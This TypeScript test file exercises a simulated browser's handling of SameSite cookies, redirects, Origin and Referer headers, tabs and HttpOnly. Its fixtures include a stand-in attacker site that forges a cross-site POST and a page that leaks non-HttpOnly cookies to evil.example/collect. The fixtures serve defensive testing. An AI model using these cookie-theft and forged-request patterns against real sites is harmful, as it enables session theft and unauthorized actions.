import { beforeAll, describe, expect, it } from 'vitest';
import { loadSqlite } from '../../src/lib/database/sqljs.ts';
import { headerValue, type HttpRequest } from '../../src/lib/http/message.ts';
import { parseInstant } from '../../src/lib/time/instant.ts';
import type { Action } from '../../src/lib/world/action.ts';
import type { WorldEvent } from '../../src/lib/world/events.ts';
import { InvalidAction } from '../../src/lib/world/invalid-action.ts';
import type { SiteStart, StaticPage, WorldStart } from '../../src/lib/world/scenario.ts';
import { World, type WorldPorts } from '../../src/lib/world/world.ts';

let ports: WorldPorts;

/** These worlds have pages without a program: no Python is started. */
beforeAll(async () => {
	const startProcess = (): never => {
		throw new Error('No Python here');
	};
	ports = { runtime: { pythonVersion: '', dead: false, startProcess }, openDatabase: await loadSqlite() };
});

const site = (origin: string, pages: Record<string, StaticPage>): SiteStart => ({
	origin,
	content: { kind: 'pages', pages }
});
const setting = (...lines: string[]): StaticPage => ({
	headers: lines.map((line) => ['Set-Cookie', line]),
	body: '<title>Set</title>'
});
const moved = (status: number, to: string): StaticPage => ({ status, headers: [['Location', to]], body: '' });

const SHOP = site('https://shop.example', {
	'/': { body: '<title>Shop</title>' },
	'/set': setting(
		'strict=1; SameSite=Strict; Secure',
		'lax=1; SameSite=Lax; Secure',
		'none=1; SameSite=None; Secure',
		'hidden=1; HttpOnly; SameSite=Lax; Secure'
	),
	'/pay': { body: '<title>Paid</title>' },
	'/away': { headers: [['Referrer-Policy', 'no-referrer']], body: '<title>Away</title>' },
	'/banner': { body: '<title>Banner</title><p data-crumb-show-cookie></p>' },
	'/leaky': {
		body: '<title>Leaky</title><img data-crumb-leak="https://evil.example/collect?c=">'
	},
	...Object.fromEntries([301, 302, 303, 307, 308].map((status) => [`/${status}`, moved(status, '/pay')]))
});
const EVIL = site('https://evil.example', {
	'/': { body: '<title>Evil</title>' },
	'/form': {
		body: '<title>Win</title><form data-crumb-send method="post" action="https://shop.example/pay"><input type="hidden" name="to" value="evil&amp;co"></form>'
	},
	'/frames': {
		body: '<title>Frames</title><img src="https://shop.example/pay"><iframe src="https://shop.example/"></iframe>'
	},
	'/collect': { body: '' }
});

const me = { profile: 'browser' } as const;
const visit = (url: string, more: Partial<Extract<Action, { type: 'visit' }>> = {}): Action => ({
	type: 'visit',
	...me,
	url,
	...more
});

function inWorld<T>(work: (world: World) => T, more: Partial<WorldStart> = {}): T {
	const world = new World(
		{
			django: '5.2',
			now: parseInstant('2026-01-05T09:30:00Z'),
			project: {},
			origin: 'https://main.example',
			sessionKeys: [],
			seed: 'browser',
			sites: [SHOP, EVIL],
			...more
		},
		ports
	);
	try {
		return work(world);
	} finally {
		world.end();
	}
}

/** Does the actions one after the other. @returns what was said in the last */
function play(world: World, ...actions: Action[]): readonly WorldEvent[] {
	return actions.reduce<readonly WorldEvent[]>((_, action) => world.apply(action).events, []);
}

/** The cookies of each exchange since a number of them. */
function sent(world: World, skip: number): (string | null)[][] {
	return world.flights.all.slice(skip).map(({ exchange: { request } }) => {
		const cookie = headerValue(request.headers, 'Cookie') ?? null;
		return [request.method, request.url, cookie];
	});
}

function request(world: World, at: number): HttpRequest {
	const flight = world.flights.all[at];
	if (!flight) throw new Error(`There is no exchange at ${at}`);
	return flight.exchange.request;
}

const withheld = (events: readonly WorldEvent[]) =>
	events.flatMap((event) =>
		event.type === 'cookie.withheld'
			? [[event.decision.cookie.name, ...event.decision.reasons.map(({ reason }) => reason)]]
			: []
	);

describe('a request carries the context of what made it', () => {
	const PAY = 'https://shop.example/pay';
	it.each<[string, Action, string | null]>([
		['typed', visit(PAY), 'strict=1; lax=1; none=1; hidden=1'],
		['a link of another site', visit(PAY, { cause: 'link', from: 1 }), 'lax=1; none=1; hidden=1'],
		['a link that stands nowhere', visit(PAY, { cause: 'link' }), 'strict=1; lax=1; none=1; hidden=1'],
		['a GET form', { type: 'submit', ...me, to: PAY, method: 'GET', from: 1 }, 'lax=1; none=1; hidden=1'],
		['a POST form', { type: 'submit', ...me, to: PAY, from: 1 }, 'none=1'],
		['an image', { type: 'load', ...me, kind: 'image', url: PAY }, 'none=1'],
		['a frame', { type: 'load', ...me, kind: 'frame', url: PAY }, 'none=1'],
		['a fetch', { type: 'fetch', ...me, url: PAY }, null],
		['a fetch with all', { type: 'fetch', ...me, url: PAY, credentials: 'include' }, 'none=1']
	])('%s', (_, action, cookie) => {
		inWorld((world) => {
			play(world, visit('https://shop.example/set'), visit('https://evil.example/'), action);
			expect(sent(world, 2).map(([, , header]) => header)).toEqual([cookie]);
		});
	});

	it('says by name why the cookie of a cross-site POST was withheld', () => {
		inWorld((world) => {
			const events = play(world, visit('https://shop.example/set'), visit('https://evil.example/'), {
				type: 'submit',
				...me,
				to: 'https://shop.example/pay',
				from: 1
			});
			expect(withheld(events)).toEqual([
				['strict', 'SchemefulSameSiteStrict'],
				['lax', 'SchemefulSameSiteLax'],
				['hidden', 'SchemefulSameSiteLax']
			]);
		});
	});

	it('a form that sends itself is a cross-site POST as well', () => {
		inWorld((world) => {
			play(world, visit('https://shop.example/set'), visit('https://evil.example/form'));
			expect(sent(world, 1)).toEqual([
				['GET', 'https://evil.example/form', null],
				['POST', 'https://shop.example/pay', 'none=1']
			]);
			expect(world.flights.all[2]?.exchange.request.body).toBe('to=evil%26co');
		});
	});
});

describe('a redirect keeps or changes the method', () => {
	it.each<[number, string, string]>([
		[301, 'GET', ''],
		[302, 'GET', ''],
		[303, 'GET', ''],
		[307, 'POST', 'a=b'],
		[308, 'POST', 'a=b']
	])('%i leads from POST to %s', (status, method, body) => {
		inWorld((world) => {
			play(world, visit('https://shop.example/'), {
				type: 'submit',
				...me,
				to: `https://shop.example/${status}`,
				data: { a: 'b' }
			});
			const { method: next, body: sentBody, headers } = request(world, 2);
			expect([next, sentBody]).toEqual([method, body]);
			expect(headerValue(headers, 'Content-Type') !== undefined).toBe(method === 'POST');
		});
	});

	it.each([
		[302, 'PUT', 'PUT'],
		[303, 'PUT', 'GET'],
		[303, 'HEAD', 'HEAD']
	])('%i leads a fetch from %s to %s', (status, method, next) => {
		inWorld((world) => {
			const url = `/${status}`;
			play(world, visit('https://shop.example/'), { type: 'fetch', ...me, url, method });
			expect(sent(world, 2).map(([name]) => name)).toEqual([next]);
		});
	});
});

describe('what the requests say of where they come from', () => {
	const headersOf = (world: World, at: number) =>
		Object.fromEntries(request(world, at).headers.filter(([name]) => /^(?:origin|referer|sec-)/i.test(name)));
	const post: Action = { type: 'submit', ...me, to: 'https://shop.example/pay', from: 1 };

	it('a known page is named in Origin and Referer', () => {
		inWorld((world) => {
			play(world, visit('https://evil.example/?secret=1'), post);
			expect(headersOf(world, 1)).toEqual({
				Origin: 'https://evil.example',
				Referer: 'https://evil.example/'
			});
		});
	});

	it('a page may forbid the Referer', () => {
		inWorld((world) => {
			play(world, visit('https://shop.example/away'), post);
			expect(headersOf(world, 1)).toEqual({ Origin: 'https://shop.example' });
		});
	});

	it('a page that is not known is not named', () => {
		inWorld((world) => {
			play(world, { type: 'submit', ...me, to: 'https://shop.example/pay' });
			expect(headersOf(world, 0)).toEqual({});
		});
	});

	it('a full browser tells the server more', () => {
		inWorld(
			(world) => {
				play(world, visit('https://evil.example/'), post);
				expect(headersOf(world, 1)).toEqual({
					Origin: 'https://evil.example',
					Referer: 'https://evil.example/',
					'Sec-Fetch-Site': 'cross-site',
					'Sec-Fetch-Mode': 'navigate',
					'Sec-Fetch-User': '?1',
					'Sec-Fetch-Dest': 'document'
				});
			},
			{ fullBrowser: true }
		);
	});

	it('a full browser loads images and frames, without the cookies of another site', () => {
		inWorld(
			(world) => {
				play(world, visit('https://shop.example/set'), visit('https://evil.example/frames'));
				expect(sent(world, 2)).toEqual([
					['GET', 'https://shop.example/pay', 'none=1'],
					['GET', 'https://shop.example/', 'none=1']
				]);
			},
			{ fullBrowser: true }
		);
	});
});

describe('tabs and windows', () => {
	const cookies = (world: World, name = 'browser') =>
		world.browsers
			.get(name)
			?.jar.list(world.clock.now())
			.map((cookie) => cookie.name);
	const SET = visit('https://shop.example/set');
	const ALL = ['strict', 'lax', 'none', 'hidden'];

	it('a private window forgets with its last tab', () => {
		inWorld((world) => {
			const secret = { profile: 'private' } as const;
			play(world, { type: 'openBrowser', ...secret, private: true }, { ...SET, ...secret });
			play(world, { type: 'openTab', ...secret }, { type: 'closeTab', ...secret, tab: 1 });
			expect(cookies(world, 'private')).toEqual(ALL);
			const [event] = play(world, { type: 'closeTab', ...secret, tab: 2 });
			expect(event).toMatchObject({ type: 'tab.closed', dropped: ALL.map((name) => ({ name })) });
			expect(world.browsers.has('private')).toBe(false);
			play(world, { type: 'openBrowser', ...secret, private: true });
			expect(cookies(world, 'private')).toEqual([]);
		});
	});

	it.each<[string, Action[], readonly string[], number]>([
		['closing drops session cookies', [{ type: 'closeBrowser', ...me }], [], 1],
		[
			'closing with restore keeps them and loads the page again',
			[
				{ type: 'startUp', ...me, startUp: 'restore' },
				{ type: 'closeBrowser', ...me }
			],
			ALL,
			2
		],
		['a crash drops them', [{ type: 'crash', ...me, restore: false }], [], 1],
		['a crash with restore keeps them', [{ type: 'crash', ...me, restore: true }], ALL, 2],
		['clearing the site', [{ type: 'clearSite', ...me }], [], 1],
		['clearing another site', [{ type: 'clearSite', ...me, url: 'https://evil.example' }], ALL, 1]
	])('%s', (_, actions, left, exchanges) => {
		inWorld((world) => {
			play(world, SET, ...actions);
			expect(cookies(world)).toEqual(left);
			expect(world.flights.all).toHaveLength(exchanges);
		});
	});

	it('tabs share the jar and have histories of their own', () => {
		inWorld((world) => {
			play(world, SET, { type: 'openTab', ...me }, visit('https://shop.example/pay'));
			expect(sent(world, 1)[0]?.[2]).toBe('strict=1; lax=1; none=1; hidden=1');
			play(world, { type: 'pickTab', ...me, tab: 1 }, visit('https://shop.example/'));
			play(world, { type: 'traverse', ...me, by: -1 });
			expect(world.browser('browser').url).toBe('https://shop.example/set');
			play(world, { type: 'traverse', ...me, by: 1 }, { type: 'reload', ...me });
			expect(world.browser('browser').url).toBe('https://shop.example/');
			expect(world.browser('browser').shown(2)?.url).toBe('https://shop.example/pay');
		});
	});

	it('a reload sends the form again', () => {
		inWorld((world) => {
			play(world, visit('https://evil.example/'), {
				type: 'submit',
				...me,
				to: 'https://shop.example/pay',
				data: { a: 'b' },
				from: 1
			});
			play(world, { type: 'reload', ...me });
			const { method, body } = request(world, 2);
			expect([method, body]).toEqual(['POST', 'a=b']);
		});
	});

	it.each<[string, Action]>([
		['a tab that is not there', { type: 'pickTab', ...me, tab: 9 }],
		['back without a history', { type: 'traverse', ...me, by: -1 }],
		['a reload of nothing', { type: 'reload', ...me }],
		['a script without a page', { type: 'readScript', ...me }],
		['a fetch without a page', { type: 'fetch', ...me, url: '/' }]
	])('refuses %s', (_, action) => {
		inWorld((world) => {
			expect(() => world.apply(action)).toThrow(InvalidAction);
			expect([...world.browsers]).toEqual([]);
		});
	});
});

describe('scripts and settings', () => {
	const SET = visit('https://shop.example/set');
	it('document.cookie hides HttpOnly and says so', () => {
		inWorld((world) => {
			const events = play(world, SET, { type: 'readScript', ...me });
			expect(withheld(events)).toEqual([['hidden', 'HttpOnly']]);
			expect(events.at(-1)).toMatchObject({ type: 'script.read', value: 'strict=1; lax=1; none=1' });
		});
	});

	it('a page that shows document.cookie follows what scripts write', () => {
		inWorld((world) => {
			play(world, SET, visit('https://shop.example/banner'));
			play(world, { type: 'writeScript', ...me, line: 'lax=2; Secure' });
			expect(world.browser('browser').page?.documentCookie).toBe('strict=1; none=1; lax=2');
		});
	});

	it('a smuggled script carries off what is not HttpOnly', () => {
		inWorld((world) => {
			play(world, SET, visit('https://shop.example/leaky'));
			expect(sent(world, 2)).toEqual([
				['GET', 'https://evil.example/collect?c=strict%3D1%3B%20lax%3D1%3B%20none%3D1', null]
			]);
		});
	});

	it.each<[string, Action, (string | null)[]]>([
		['all', { type: 'preferCookies', ...me, change: { blockAll: true } }, [null, null]],
		['one site', { type: 'preferCookies', ...me, change: { blockedSites: ['shop.example'] } }, [null, null]],
		[
			'third parties',
			{ type: 'preferCookies', ...me, change: { blockThirdParty: true } },
			['strict=1; lax=1; none=1; hidden=1', null]
		]
	])('blocks %s', (_, action, expected) => {
		inWorld((world) => {
			const image: Action = { type: 'load', ...me, kind: 'image', url: 'https://shop.example/pay' };
			play(world, SET, action, visit('https://shop.example/'), visit('https://evil.example/'), image);
			const headers = sent(world, 1).map(([, , header]) => header ?? null);
			expect([headers[0], headers[2]]).toEqual(expected);
		});
	});

	it('a cookie edited by hand goes along with the next request', () => {
		inWorld((world) => {
			play(world, SET);
			const old = world.browser('browser').jar.list(world.clock.now())[1];
			if (!old) throw new Error('The cookie is there');
			play(world, { type: 'editCookie', ...me, old, cookie: { ...old, value: 'mine' } });
			play(world, visit('https://shop.example/pay'));
			expect(sent(world, 1)[0]?.[2]).toBe('strict=1; none=1; hidden=1; lax=mine');
			play(world, { type: 'removeCookie', ...me, cookie: { ...old, value: 'mine' } });
			play(world, visit('https://shop.example/pay'));
			expect(sent(world, 2)[0]?.[2]).toBe('strict=1; none=1; hidden=1');
		});
	});
});

it('a host that no site has is unknown', () => {
	inWorld((world) => {
		const events = play(world, visit('https://nowhere.example/'));
		expect(events.find(({ type }) => type === 'exchange.failed')).toMatchObject({ reason: 'UnknownHost' });
	});
});
